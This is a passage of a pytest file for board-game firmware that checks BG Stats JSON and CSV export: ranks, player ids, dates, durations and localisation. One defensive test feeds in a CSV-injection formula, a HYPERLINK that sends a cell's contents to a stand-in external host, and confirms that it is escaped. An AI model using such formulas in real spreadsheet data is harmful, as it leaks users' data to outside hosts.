"""``export format=bgstats|csv [id=…]`` (PROTOCOL.md "Added in version 1"): the documents are read
back by json.loads and the csv module, as another program would, over stdin/stdout and a serial
link (a pty stands in for the UART)."""
from __future__ import annotations

import csv
import io
import json
import os

import pytest

from tests.conftest import run_console
from tests.test_serial import _read_line, console_on_pty

GAMES = ["new jc-battle seed=4", "add attacker c_leg10", "add defender p_pompeius", "fight",
         "new sword players=romans,gauls,etruscans seed=1", "scoring gauls outside=5 auto=4",
         "new caesar-solo difficulty=hard seed=3", "crassus",
         "new dice seed=1"]


def test_bgstats_and_csv_parse_and_agree_with_history(state_dir):
    replies = run_console(state_dir, GAMES + ["history", "export format=bgstats", "export format=csv",
                                              "export format=bgstats id=1", "export format=csv id=2"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    hist, newest, sheet, first, second = replies[-5:]
    games = hist["games"]
    assert [g["game"] for g in games] == ["caesar-solo", "sword", "jc-battle"]
    assert games[0]["status"] == "abandoned" and games[1]["status"] == "finished"

    play = json.loads(newest["text"])
    assert play == newest["play"]
    # BoardGameGeek's id of Caesar! (boardgamegeek.com/boardgame/338957/caesar-seize-rome-in-20-minutes),
    # by which BG Stats finds the game in BoardGameGeek; the others have none verified, so none is given
    assert play["game"]["name"] == "Caesar! Seize Rome in 20 Minutes" and play["game"]["bggId"] == 338957
    assert newest["status"] == "abandoned" and "Abandoned" in play["comments"]
    assert "Level: hard." in play["comments"], play["comments"]          # its level, kept though abandoned
    assert [p["name"] for p in play["players"] if p["startPlayer"]] == ["Auto-Crassus"]   # S-2
    # people, never sides: nobody was named, so Player 1 plays Caesar (side=caesar by default)
    assert [(p["name"], p.get("role")) for p in play["players"]] == [("Player 1", "Caesar"), ("Auto-Crassus", "Pompey")]
    assert len(play["playDate"]) == 19 and play["playDate"][10] == " "
    for p in play["players"]:
        assert set(p) <= {"name", "sourcePlayerId", "role", "winner", "startPlayer"}   # no score, no rank: abandoned

    jc = json.loads(first["text"])
    assert jc["game"]["name"] == "Julius Caesar" and first["id"] == 1 and "bggId" not in jc["game"]
    assert [p["winner"] for p in jc["players"]] == [p["winner"] for p in games[2]["players"]]
    assert [p["startPlayer"] for p in jc["players"]] == [True, False]    # Caesar attacked

    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff"))))
    assert len(rows) == sum(len(g["players"]) for g in games)            # one row per player per game
    assert [r["id"] for r in rows] == [str(g["id"]) for g in games for _p in g["players"]]
    gauls = next(r for r in rows if r["role"] == "Gauls")
    assert gauls["winner"] == "1" and gauls["game"] == "sword" and "automatic" in gauls["result"]
    assert sum(r["winner"] == "1" for r in rows if r["id"] == "2") == 1
    only = list(csv.DictReader(io.StringIO(second["text"].lstrip("\ufeff"))))
    assert {r["id"] for r in only} == {"2"} and len(only) == 3


def test_export_over_the_serial_link(state_dir):
    run_console(state_dir, GAMES[:4])
    with console_on_pty(state_dir) as (master, _slave):
        os.write(master, b"export format=bgstats\r\n")
        got = _read_line(master)
        assert json.loads(got["text"])["game"]["name"] == "Julius Caesar"
        os.write(master, b"export format=csv\n")
        rows = list(csv.reader(io.StringIO(_read_line(master)["text"].lstrip("\ufeff"))))
        assert rows[0][:3] == ["id", "game", "name"] and len(rows) == 3


def test_the_result_column_and_comments_follow_the_language(state_dir):
    replies = run_console(state_dir, GAMES[:4] + ["settings language=uk", "export format=csv",
                                                  "export format=bgstats", "settings language=en"])
    sheet, play = replies[-3], replies[-2]
    assert "Бій 1" in sheet["text"] and "Бій 1" in play["play"]["comments"]     # the JC rulebook's «бой»
    caesar = run_console(state_dir, GAMES[6:] + ["settings language=uk", "export format=bgstats", "settings language=en"])[-2]
    assert "Рівень: складний." in caesar["play"]["comments"], caesar["play"]["comments"]    # the level, in Ukrainian
    assert play["play"]["game"]["name"] == "Julius Caesar"               # the box name stays English


# -- issue 24 §5: export that BG Stats and a spreadsheet take as they are ---------------------------------

def _exported_in(lang: str, entry: dict) -> tuple[dict, list[dict]]:
    """``entry``'s BG Stats play and its CSV rows, exported with the device speaking ``lang``."""
    from firmware import export, i18n
    i18n.set_language(lang)
    try:
        return export.bgstats_play(entry), list(csv.DictReader(io.StringIO(export.csv_text([entry]).lstrip("\ufeff"))))
    finally:
        i18n.set_language("en")

def _decoded_link(link: str) -> dict:
    """What BG Stats reads from its push link: the JSON of the ``data`` parameter."""
    from urllib.parse import parse_qs, urlsplit
    parts = urlsplit(link)
    assert (parts.scheme, parts.netloc, parts.path) == ("https", "app.bgstatsapp.com", "/createPlay.html")
    (data,) = parse_qs(parts.query, strict_parsing=True)["data"]
    return json.loads(data)


GLORY_TIE = ["new glory players=Анна,Борис,Вера,Гліб seed=5"] + ["event", "end-round"] * 9 + [
    "sheet Анна denarii 8", "sheet Борис denarii 7", "sheet Вера denarii 4", "sheet Гліб denarii 4"]


def test_the_link_decodes_to_the_play_in_the_published_format_with_people_and_ranks(state_dir):
    from firmware.export import PUBLISHED
    replies = run_console(state_dir, GLORY_TIE + ["score", "export format=bgstats", "history 1"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    scored, out, hist = replies[-3:]
    play = _decoded_link(out["link"])
    assert play == out["play"] == json.loads(out["text"])
    assert set(play) <= PUBLISHED["play"] and set(play["game"]) <= PUBLISHED["game"]
    assert all(set(p) <= PUBLISHED["player"] for p in play["players"])
    assert "fairDraw" not in play and "ignored" not in play
    names = [p["name"] for p in play["players"]]
    assert names == ["Анна", "Борис", "Вера", "Гліб"]                     # Cyrillic intact
    # G-15: Борис, Вера and Гліб have equal fame (their denarii give 1 each); the most denarii breaks
    # the tie (Борис 7 before Вера and Гліб 4, who share the place: still tied)
    ranks = {p["name"]: p["rank"] for p in play["players"]}
    totals = {n: scored["scores"][n]["total"] for n in names}
    assert totals["Борис"] == totals["Вера"] == totals["Гліб"] < totals["Анна"]
    assert ranks == {n: scored["places"][n] for n in names} == {"Анна": 1, "Борис": 2, "Вера": 3, "Гліб": 3}
    assert [p["winner"] for p in play["players"]] == [p["winner"] for p in hist["games"][0]["players"]]
    # the start player is who played first in round 1 (the first event's order), not the last round's
    starts = [p["name"] for p in play["players"] if p["startPlayer"]]
    assert len(starts) == 1 and starts == [run_state_first(state_dir)]


def test_a_sword_play_ranks_powers_tied_on_vp_by_w11s_order(console):
    """W-11: ties everywhere follow the order Gauls > Etruscans > Samnites > Greeks > Carthage >
    Romans. The Etruscans and the Romans end on 5 VP each behind the Gauls' 7: the Etruscans are
    second and the Romans third, as the game's standings say; the export gave both place 2."""
    lines = ["new sword players=romans,gauls,etruscans people=romans:Anna,etruscans:Boris seed=3",
             "vp gauls =7", "vp romans =5", "vp etruscans =5"] + ["advance"] * 45
    for line in lines:
        assert console.request(line)["ok"], line
    assert console.request("standings")["standings"] == ["gauls", "etruscans", "romans"]
    play = console.request("export format=bgstats")["play"]
    assert {p["role"]: (p["score"], p["winner"], p["rank"]) for p in play["players"]} == {
        "Gauls": (7, True, 1), "Etruscans": (5, False, 2), "Romans": (5, False, 3)}
    rows = list(csv.DictReader(io.StringIO(console.request("export format=csv")["text"].lstrip("\ufeff"))))
    assert {r["role"]: r["rank"] for r in rows} == {"Gauls": "1", "Etruscans": "2", "Romans": "3"}
    # an automatic victory (W-11): the winner first, the others in the standings' order
    for line in ["new sword players=romans,gauls,etruscans seed=3", "vp romans =2", "vp etruscans =2",
                 "victory romans"]:
        assert console.request(line)["ok"], line
    play = console.request("export format=bgstats")["play"]
    assert {p["role"]: p["rank"] for p in play["players"]} == {"Romans": 1, "Gauls": 3, "Etruscans": 2}


def test_a_play_keeps_one_bg_stats_id_that_no_other_card_or_device_gives_another_play(tmp_path):
    """BG Stats knows a pushed play again by its ``sourcePlayId`` (a play imported before is
    updated by the next import of that id). The History row number made it "1" on every card: a
    second Legatus, or this one after a new card, pushed its first game as play "1" and BG Stats
    replaced the first card's game with it. The id is the game's own (its session and part): the
    same in every export of that game, through a restart, and a damaged History row rebuilt."""
    ids = []
    for card in ("one", "two"):
        state_dir = tmp_path / card
        state_dir.mkdir()
        replies = run_console(state_dir, ["new jc-battle seed=4", "add attacker c_leg10", "add defender p_pompeius",
                                          "fight", "export format=bgstats", "export format=bgstats id=1"])
        assert all(r["ok"] for r in replies)
        newest, by_id = replies[-2:]
        assert newest["id"] == by_id["id"] == 1                            # the History id, beside the play
        assert newest["play"]["sourcePlayId"] == by_id["play"]["sourcePlayId"]
        (again,) = run_console(state_dir, ["export format=bgstats"])     # after a restart: the same play
        assert again["play"]["sourcePlayId"] == newest["play"]["sourcePlayId"]
        ids.append(newest["play"]["sourcePlayId"])
    assert ids[0] != ids[1]


def test_a_glory_seat_nobody_was_named_for_is_exported_as_player_n_never_as_a_person(console):
    """Players are people (PROTOCOL.md third round): a Glory game started without names keeps
    the seats' colours, said in the language of the day («Красный» in Russian, Red in English).
    BG Stats took each colour for a person — one "Red" across every group's games, and another
    «Красный» for the same seat —; a seat nobody was named for is ``Player N``, its colour (said in
    the language set, as the role of every game is) the role.
    The name is said in the language set («Игрок 1»: "Player 1" in English on a Russian device
    was the one English word of the play's people), its id ``player 1`` in every language, as in
    every export made before (BG Stats knows the player again by it)."""
    assert console.request("settings language=ru")["ok"]
    for line in ["new glory players=Красный,Анна seed=5"] + ["event", "end-round"] * 9 + ["fame Анна +2", "score"]:
        assert console.request(line)["ok"], line
    play = console.request("export format=bgstats")["play"]
    assert [(p["name"], p.get("role"), p["sourcePlayerId"]) for p in play["players"]] == [
        ("Игрок 1", "Красный", "player 1"), ("Анна", None, "анна")]
    sheet = console.request("export format=csv")
    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff")), delimiter=sheet["separator"]))
    assert [(r["player"], r["role"], r["player_id"]) for r in rows] == [("Игрок 1", "Красный", "player 1"),
                                                                        ("Анна", "", "анна")]
    for lang, said in (("uk", "Гравець 1"), ("en", "Player 1")):
        assert console.request(f"settings language={lang}")["ok"]
        play = console.request("export format=bgstats")["play"]
        assert [(p["name"], p["sourcePlayerId"]) for p in play["players"]] == [(said, "player 1"), ("Анна", "анна")]
    assert [g["players"][0]["name"] for g in console.request("history 1")["games"]] == ["Красный"]   # History as played


def run_state_first(state_dir) -> str:
    (r,) = run_console(state_dir, ["state"])
    return r["state"]["events"][0]["first"]


def test_play_date_is_local_time_and_the_duration_comes_from_the_start_and_finish(state_dir, monkeypatch):
    import datetime as dt

    from firmware import export
    entry = {"id": 7, "game": "jc-battle", "name": "Julius Caesar", "status": "finished",
             "started": "2026-03-01T18:00:05Z", "finished": "2026-03-01T18:47:40Z", "mode": {"kind": "battle"},
             "players": [{"name": "Анна", "role": "caesar", "score": 3, "winner": True, "startPlayer": True},
                         {"name": "Pompey", "role": "pompey", "score": 0, "winner": False, "startPlayer": False}],
             "result": "Battle 1.", "unsynced": [], "seed": None}
    play = export.bgstats_play(entry)
    local = dt.datetime(2026, 3, 1, 18, 0, 5, tzinfo=dt.timezone.utc).astimezone().strftime("%Y-%m-%d %H:%M:%S")
    assert play["playDate"] == local and play["durationMin"] == 48
    assert [(p["name"], p["role"], p["rank"]) for p in play["players"]] == [("Анна", "Caesar", 1), ("Player 2", "Pompey", 2)]
    assert "durationMin" not in export.bgstats_play({**entry, "unsynced": ["started"]})   # a clock not set


def test_a_later_battle_of_a_campaign_is_never_dated_and_timed_from_the_campaigns_start(console, history_clock):
    """J-13: History keeps every battle. The session (the campaign) began at 10:00, battle 1 ended
    at 10:05 and battle 2 at 13:00: battle 2 was said to have begun at 10:00 and lasted 180
    minutes. Battle 2 is timed from the step that began it (``next-battle``, 12:50) to its end: 10
    minutes, the campaign's 2 h 45 min before it in no battle; it has no start of its own
    (``started`` null) and is dated by its end less that time (it was dated by its end: BG Stats
    showed it begun at 13:00); battle 1 began with the session (its set-up, J-18's cards, is play).
    Neither is a BG Stats play of its own
    (:func:`test_a_julius_caesar_game_is_one_bg_stats_play_whatever_part_is_exported`): the game so
    far, then the game the players end, is one play dated from the session's start."""
    import datetime as dt

    steps = [("2026-03-01T10:00:00Z", "new jc-battle people=caesar:Anna,pompey:Boris seed=4"),
             ("2026-03-01T10:00:00Z", "add attacker c_leg10"), ("2026-03-01T10:00:00Z", "add defender p_pompeius"),
             ("2026-03-01T10:05:00Z", "fight"), ("2026-03-01T12:50:00Z", "next-battle"),
             ("2026-03-01T12:55:00Z", "add attacker c_leg8"), ("2026-03-01T12:55:00Z", "add defender p_leg5"),
             ("2026-03-01T13:00:00Z", "fight")]
    for when, line in steps:
        history_clock.wall = when
        assert console.request(line)["ok"], line

    def local(iso: str) -> str:
        return dt.datetime.fromisoformat(iso.replace("Z", "+00:00")).astimezone().strftime("%Y-%m-%d %H:%M:%S")
    second, first = console.request("history 2")["games"]
    assert (first["mode"]["number"], second["mode"]["number"]) == (1, 2)
    assert first["started"] == "2026-03-01T10:00:00Z" and second["finished"] == "2026-03-01T13:00:00Z"
    assert second["started"] is None
    assert (first["minutes"], second["minutes"]) == (5, 10)
    for battle in (first, second):                 # the game so far: from its start, the battles' time
        play = console.request(f"export format=bgstats id={battle['id']}")["play"]
        assert play["playDate"] == local("2026-03-01T10:00:00Z") and play["durationMin"] == 15
    history_clock.wall = "2026-03-01T13:05:00Z"
    assert console.request("end")["ok"]
    ended = console.request("history 1")["games"][0]
    out = console.request(f"export format=bgstats id={second['id']}")
    assert out["id"] == ended["id"] and out["play"]["playDate"] == local("2026-03-01T10:00:00Z")
    assert out["play"]["durationMin"] == ended["minutes"] >= first["minutes"] + second["minutes"]


def test_a_game_begun_before_the_clock_was_set_is_dated_by_its_finish_once_the_clock_is_set(state_dir, history_clock,
                                                                                          monkeypatch):
    """QA (faults): a Pi with no network starts at 1970 (or at its last shutdown); a battle begun
    then and fought after the clock was set went to BG Stats and the CSV as played on 1970-01-01
    (a caveat in the comments), though its finish time was sure. The play is dated by its finish;
    its duration is the device's own clock's (QA, clock: 47 minutes, never 56 years), and with it
    the play is dated by its true start, the finish less those minutes (it was dated 47 minutes
    late: BG Stats then showed it ending 47 minutes after it did)."""
    import datetime as dt

    from firmware import export

    history_clock.wall, history_clock.unset, history_clock.mono = "1970-01-01T00:00:42Z", True, 100.0
    replies = run_console_in(state_dir, ["new jc-battle seed=4", "add attacker c_leg10", "add defender p_pompeius"])
    history_clock.wall, history_clock.unset, history_clock.mono = "2026-11-26T19:00:00Z", False, 100.0 + 47 * 60
    replies = run_console_in(state_dir, ["fight", "export format=bgstats", "export format=csv"])
    finish = dt.datetime(2026, 11, 26, 19, 0, 0, tzinfo=dt.timezone.utc).astimezone()
    began = (finish - dt.timedelta(minutes=47)).strftime("%Y-%m-%d %H:%M:%S")          # 18:13 UTC
    play = replies[1]["play"]
    assert play["playDate"] == began and "clock" not in play["comments"]
    assert play["durationMin"] == 47                                   # NTP set the wall clock meanwhile
    assert began in replies[2]["text"] and "1970-01-01 00:00" not in replies[2]["text"].split("\r\n")[1]
    # a restart came between (the device switched off, on again with the network): its play time is
    # the sum of its runs' (firmware/play_time.py), 5 minutes before and 7 after, and it dates the play
    from firmware.console import Console
    from firmware.store import Store
    history_clock.restart()
    history_clock.wall, history_clock.unset, history_clock.mono = "1970-01-01T00:00:42Z", True, 100.0
    store = Store(state_dir)
    c = Console(store, store.resume())
    c.request("new jc-battle seed=5")
    history_clock.mono = 100.0 + 5 * 60
    c.request("add attacker c_leg10")
    c.close()
    history_clock.restart()
    history_clock.wall, history_clock.unset, history_clock.mono = "2026-11-26T18:53:00Z", False, 20.0
    store = Store(state_dir)
    c = Console(store, store.resume())
    c.request("add defender p_pompeius")
    history_clock.wall, history_clock.mono = "2026-11-26T19:00:00Z", 20.0 + 7 * 60
    c.request("fight")
    play = c.request("export format=bgstats")["play"]
    c.close()
    twelve = (finish - dt.timedelta(minutes=12)).strftime("%Y-%m-%d %H:%M:%S")
    assert play["playDate"] == twelve and play["durationMin"] == 12
    # in Kyiv, a game begun at 01:50 EET and finished at 04:10 EEST, the night summer time began
    import time
    entry = {"id": 1, "game": "jc-battle", "name": "Julius Caesar", "status": "finished", "mode": {"kind": "battle"},
             "players": [], "result": "Battle 1.", "started": "1970-01-01T00:00:42Z", "finished": "2026-03-29T01:10:00Z",
             "unsynced": ["started"], "minutes": 80}
    monkeypatch.setenv("TZ", "EET-2EEST,M3.5.0/3,M10.5.0/4")
    time.tzset()
    try:
        assert export.bgstats_play(entry)["playDate"] == "2026-03-29 01:50:00"
    finally:
        monkeypatch.delenv("TZ")
        time.tzset()


def test_the_csv_says_which_of_its_times_were_taken_with_the_clock_not_set(state_dir, history_clock):
    """QA (clock): a Pi with no network starts at 1970 (or at its last shutdown). History names
    such times (``unsynced``) and BG Stats' comments say the date may be wrong, but the CSV gave
    ``started`` 1970-01-01 — and, with both times unsure, ``play_date`` 1970 — as sure dates with
    nothing to tell them apart. Its ``unsynced`` column names them, as ``history`` does."""
    clock = history_clock
    clock.wall, clock.unset, clock.mono = "1970-01-01T00:00:42Z", True, 0.0
    run_console_in(state_dir, ["new jc-battle seed=4", "add attacker c_leg10", "add defender p_pompeius"])
    clock.wall, clock.unset, clock.mono = "2026-11-26T19:00:00Z", False, 600.0     # NTP set the clock mid-game
    run_console_in(state_dir, ["fight", "new jc-battle seed=5", "add attacker c_leg10", "add defender p_pompeius"])
    clock.wall, clock.mono = "2026-11-26T19:20:00Z", 1800.0
    run_console_in(state_dir, ["fight", "new dice seed=1"])
    clock.restart()                                                  # the next boot, no network
    clock.wall, clock.unset, clock.mono = "1970-01-01T00:03:00Z", True, 5.0
    replies = run_console_in(state_dir, ["roll 2d6", "end", "new dice seed=2", "roll 2d6"])
    clock.mono = 65.0
    replies = run_console_in(state_dir, ["end", "history", "export format=csv"])
    rows = list(csv.DictReader(io.StringIO(replies[-1]["text"].lstrip("\ufeff"))))
    unsure = {int(g["id"]): " ".join(g["unsynced"]) for g in replies[-2]["games"]}
    assert unsure == {1: "started", 2: "", 3: "finished", 4: "started finished"}   # (dice 3 began with the clock set)
    assert {int(r["id"]): r["unsynced"] for r in rows} == unsure
    # the device's own clock times the play, whatever the wall clock said; dice 3, begun before the
    # restart and ended after it, its runs' play summed (firmware/play_time.py: nothing was played)
    assert {int(r["id"]): r["duration_min"] for r in rows} == {1: "10", 2: "20", 3: "1", 4: "1"}


def test_a_game_resumed_days_later_is_exported_with_its_play_time_rather_than_days_of_play(state_dir, history_clock):
    """QA (clock): a battle set up one evening (clock set), the device switched off, the game
    resumed and fought 400 days later (clock set again): BG Stats got ``durationMin`` 576 000 and
    the CSV 576000 — a play of 400 days; switched off overnight, 13 hours. The time between holds
    pauses: across a restart of the device its runs' play is summed, and with it on, a day (or 23
    hours) with no step is a pause (:data:`firmware.play_time.IDLE_LIMIT`), not play: each of these
    battles was set up and fought in no time, a minute."""
    plays = (("2027-02-05T18:00:00Z", True), ("2026-01-02T09:30:00Z", True),       # switched off between
             ("2026-01-02T18:01:00Z", False), ("2026-01-02T17:59:00Z", False))     # on for a day and a minute / less
    for seed, (finish, restart) in enumerate(plays, 4):
        history_clock.wall = "2026-01-01T18:00:00Z"
        run_console_in(state_dir, [f"new jc-battle seed={seed}", "add attacker c_leg10", "add defender p_pompeius"])
        if restart:
            history_clock.restart()
        history_clock.wall = finish
        run_console_in(state_dir, ["fight"])
    replies = run_console_in(state_dir, [f"export format=bgstats id={n}" for n in (1, 2, 3, 4)] + ["export format=csv"])
    assert [r["play"]["durationMin"] for r in replies[:4]] == [1, 1, 1, 1]
    rows = list(csv.DictReader(io.StringIO(replies[4]["text"].lstrip("\ufeff"))))
    assert {(r["id"], r["duration_min"], r["unsynced"]) for r in rows} == {
        ("1", "1", ""), ("2", "1", ""), ("3", "1", ""), ("4", "1", "")}


def test_an_abandoned_play_has_no_duration_since_nobody_said_when_it_stopped(state_dir, history_clock):
    """QA (clock): a battle set up at 18:00 and left; another game begun at 21:00 recorded it as
    abandoned then, and BG Stats got ``durationMin`` 180 for a play stopped at some unknown time
    in between. An abandoned play has no duration (its ``finished`` is when it was replaced); a
    play the players ended (``end``) or the rules finished has its own."""
    history_clock.wall = "2026-03-01T18:00:00Z"
    run_console_in(state_dir, ["new jc-battle seed=4", "add attacker c_leg10"])
    history_clock.wall = "2026-03-01T21:00:00Z"
    run_console_in(state_dir, ["new dice seed=1", "roll 2d6"])
    history_clock.wall = "2026-03-01T21:10:00Z"
    replies = run_console_in(state_dir, ["end", "history", "export format=bgstats id=1",
                                         "export format=bgstats id=2", "export format=csv"])
    assert [(g["id"], g["status"]) for g in replies[1]["games"]] == [(2, "ended"), (1, "abandoned")]
    assert "durationMin" not in replies[2]["play"] and replies[3]["error"] == "bad_arguments"   # (dice: no play)
    rows = list(csv.DictReader(io.StringIO(replies[4]["text"].lstrip("\ufeff"))))
    assert {(r["id"], r["duration_min"]) for r in rows} == {("1", ""), ("2", "10")}


def run_console_in(state_dir, lines: list[str]) -> list[dict]:
    """The replies of an in-process console (History's clock can be set by the test)."""
    from firmware.console import Console
    from firmware.store import Store
    store = Store(state_dir)
    c = Console(store, store.resume())
    try:
        return [c.request(line) for line in lines]
    finally:
        c.close()


def test_the_fair_draw_goes_in_the_comments_and_beside_the_link(state_dir):
    replies = run_console(state_dir, ["new jc-battle people=caesar:Анна", "add attacker c_leg10",
                                      "add defender p_leg1", "fight", "end", "reveal", "export format=bgstats"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    seed, out = replies[-2]["seed"], replies[-1]
    assert out["fair"]["seed"] == seed and len(out["fair"]["commitment"]) == 64
    assert f"seed {seed}" in out["play"]["comments"] and out["fair"]["commitment"] in out["play"]["comments"]
    assert _decoded_link(out["link"])["comments"] == out["play"]["comments"]


def test_the_fair_draw_in_the_comments_is_a_sentence_of_the_language_with_no_code_words(state_dir):
    # a game started with seed= has no share and no commitment: a sentence says the seed was
    # chosen (it said «вклад игроков -, код -»: a dash where a native reader expects words)
    replies = run_console(state_dir, ["settings language=ru", "new caesar-duel seed=77", "end",
                                      "export format=bgstats"])
    comments = replies[-1]["play"]["comments"]
    assert "None" not in comments and "Fair draw" not in comments and " -" not in comments
    assert comments.endswith("Жребий не тайный: зерно 77 задано при создании партии."), comments


@pytest.mark.parametrize("lang, said", [
    ("en", "Fair draw: seed {seed}, commitment {code}. No share: none was given before the first draw."),
    ("ru", "Честный жребий: зерно {seed}, код {code}. Вклада нет: до первого жребия его не внесли."),
    ("uk", "Чесний жереб: зерно {seed}, код {code}. Внеску немає: до першого жеребу його не внесли.")])
def test_a_fair_draw_without_a_share_says_why_in_the_comments(state_dir, lang: str, said: str):
    """A secret-seed game whose players gave no share: the comments give the seed and the
    commitment and say why there is no share (History's page's words), never «share -»."""
    replies = run_console(state_dir, [f"settings language={lang}", "new jc-battle", "add attacker c_leg10",
                                      "add defender p_leg1", "fight", "end", "reveal", "export format=bgstats"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    fair = replies[-1]["fair"]
    assert fair["share"] is None
    comments = replies[-1]["play"]["comments"]
    assert comments.endswith(said.format(seed=fair["seed"], code=fair["commitment"])), comments


def test_the_csv_opens_in_a_spreadsheet_with_cyrillic_and_one_column_per_mode_flag(state_dir, tmp_path):
    glory = [GLORY_TIE[0] + " harsh=1", *GLORY_TIE[1:], "score"]
    jc = ["new jc-battle surprise=1 people=pompey:Ярина seed=4", "add attacker c_leg10", "add defender p_leg1", "fight"]
    replies = run_console(state_dir, glory + jc + ["export format=csv"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    raw = replies[-1]["text"].encode("utf-8")
    assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\r\n") == raw.count(b"\n")   # BOM, CRLF only
    path = tmp_path / "legatus.csv"
    path.write_bytes(raw)
    with open(path, encoding="utf-8-sig", newline="") as f:        # as a spreadsheet's CSV reader opens it
        rows = list(csv.DictReader(f))
    assert list(rows[0])[:2] == ["id", "game"]
    assert {r["player"] for r in rows if r["game"] == "glory"} == {"Анна", "Борис", "Вера", "Гліб"}
    assert {"mode.kind", "mode.players", "mode.expansions.harsh", "mode.surprise", "mode.attacker"} <= set(rows[0])
    battle = [r for r in rows if r["game"] == "jc-battle"]
    assert {(r["player"], r["role"]) for r in battle} == {("Player 1", "Caesar"), ("Ярина", "Pompey")}
    assert all(r["mode.surprise"] == "1" and r["mode.attacker"] == "caesar" and r["mode.players"] == "" for r in battle)
    table = [r for r in rows if r["game"] == "glory"]
    assert all(r["mode.expansions.harsh"] == "1" and r["mode.players"] == "4" and r["mode.surprise"] == "" for r in table)
    assert {r["rank"] for r in table} <= {"1", "2", "3", "4"} and all(r["play_date"] for r in table)


def test_no_csv_cell_a_player_typed_opens_as_a_formula_in_a_spreadsheet(state_dir):
    # A spreadsheet runs a cell that starts with = + - @ as a formula (CSV injection): a name or a
    # players' share typed at the table must open as the text it is (a leading apostrophe, as
    # OWASP's CSV-injection guidance has it), while numbers stay numbers.
    share = '=HYPERLINK("http://x.example/?"&A1,"click")'
    replies = run_console(state_dir, ["new jc-battle people=caesar:-A1,pompey:+B2", f"share {share}",
                                      "add attacker c_leg10", "add defender p_leg1", "fight", "end",
                                      "export format=csv", "export format=bgstats id=1"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    sheet, play = replies[-2], replies[-1]
    rows = list(csv.DictReader(io.StringIO(sheet["text"].lstrip("\ufeff"))))
    assert {r["player"] for r in rows} == {"'-A1", "'+B2"}
    assert {r["share"] for r in rows} == {"'" + share}
    for r in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r.values()), r
    assert all(r["score"].isdigit() for r in rows if r["status"] == "finished")     # numbers stay numbers
    # BG Stats takes the names as they are (no spreadsheet there)
    assert [p["name"] for p in play["play"]["players"]] == ["-A1", "+B2"]


def test_a_person_is_one_player_of_bg_stats_across_games_spellings_and_renames(state_dir):
    # BG Stats remembers which of its players a pushed player is by ``sourcePlayerId``: the same
    # person must carry the same id in every export — whatever the letter case typed, after a
    # rename, and once merged into another — or BG Stats counts one person as several.
    glory = ["event", "end-round"] * 9 + ["score"]
    replies = run_console(state_dir, [
        "new glory players=Анна,Борис seed=1", *glory,                          # 1
        "new jc-battle people=caesar:анна,pompey:Вера seed=4", "add attacker c_leg10",
        "add defender p_leg1", "fight",                                         # 2 (and the campaign)
        "export format=bgstats id=1", "export format=bgstats id=2",
        "players rename Анна Аня", "players rename Вера Борис",                  # a rename, a merge
        "new caesar-solo difficulty=easy people=caesar:Аня seed=5", "new dice",  # 3: abandoned
        "export format=bgstats id=1", "export format=bgstats id=2", "export format=bgstats id=3",
        "export format=csv"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]

    def ids(reply: dict) -> dict[str, str]:
        play = reply["play"]
        assert play == _decoded_link(reply["link"])
        return {p["name"]: p["sourcePlayerId"] for p in play["players"]}
    first, battle = ids(replies[-10]), ids(replies[-9])
    assert first["Анна"] == battle["анна"]                              # one person, two spellings
    assert first["Анна"] != first["Борис"] != battle["Вера"]
    again, battle_again, solo = ids(replies[-4]), ids(replies[-3]), ids(replies[-2])
    assert again == first                                               # the same after the rename
    assert battle_again == {"анна": battle["анна"], "Вера": first["Борис"]}  # Вера was Борис all along
    assert solo["Аня"] == first["Анна"]                                 # renamed: still her
    assert solo["Auto-Crassus"] and "Auto-Crassus" not in (first | battle)
    # the merge: Вера's later exports are Борис's; her earlier push keeps what it had
    rows = list(csv.DictReader(io.StringIO(replies[-1]["text"].lstrip("\ufeff"))))
    person = {(r["id"], r["player"]): r["player_id"] for r in rows}
    assert person[("1", "Анна")] == person[("2", "анна")] == person[("3", "Аня")] == first["Анна"]
    assert person[("2", "Вера")] == person[("1", "Борис")] == first["Борис"]


def test_every_play_of_a_game_describes_the_game_alike_whether_finished_ended_or_abandoned(state_dir):
    # ``game`` (highestWins, noPoints) describes the board game, which BG Stats creates from the
    # first play pushed: a Caesar! game ended early must not tell it that Caesar! keeps no score
    # (C-12: the markers placed are the score), or every later play's scores go unshown.
    replies = run_console(state_dir, ["new caesar-solo difficulty=easy seed=3", "crassus", "end",
                                      "new caesar-solo difficulty=easy seed=4",                   # abandoned
                                      "new jc-battle seed=4", "add attacker c_leg10", "add defender p_leg1",
                                      "end", "new dice",
                                      "export format=bgstats id=1", "export format=bgstats id=2",
                                      "export format=bgstats id=3"])
    assert all(r["ok"] for r in replies), [r for r in replies if not r["ok"]]
    ended, abandoned, battle = (r["play"] for r in replies[-3:])
    assert [p.get("score") for p in ended["players"] + abandoned["players"]] == [None] * 4
    assert ended["game"] == abandoned["game"] and ended["game"]["noPoints"] is False
    assert battle["game"]["noPoints"] is False and battle["game"]["highestWins"] is True


def test_a_play_whose_date_was_taken_with_the_clock_unset_says_so_in_its_comments():
    # A Pi with no network and no clock keeps the time of its last shutdown: History marks such a
    # date (~23.11, "date uncertain"); the play pushed to BG Stats must say it too, in the
    # language set, rather than give a wrong date as a sure one.
    from firmware import export
    from firmware.i18n import set_language
    entry = {"id": 7, "game": "jc-battle", "name": "Julius Caesar", "status": "finished",
             "started": "2026-03-01T18:00:05Z", "finished": "2026-03-01T18:47:40Z", "mode": {"kind": "battle"},
             "players": [{"name": "Анна", "role": "caesar", "score": 3, "winner": True, "startPlayer": True},
                         {"name": "Pompey", "role": "pompey", "score": 0, "winner": False, "startPlayer": False}],
             "result": "Battle 1.", "unsynced": [], "seed": None}
    assert export.bgstats_play(entry)["comments"] == "Battle 1."                 # a clock set: nothing said
    try:
        for lang, word in (("en", "clock"), ("ru", "часы"), ("uk", "годинник")):
            set_language(lang)
            for changed in ({"unsynced": ["started", "finished"]}, {"unsynced": ["started"], "finished": None},
                            {"unsynced": ["finished"], "started": None}):        # playDate: the finish
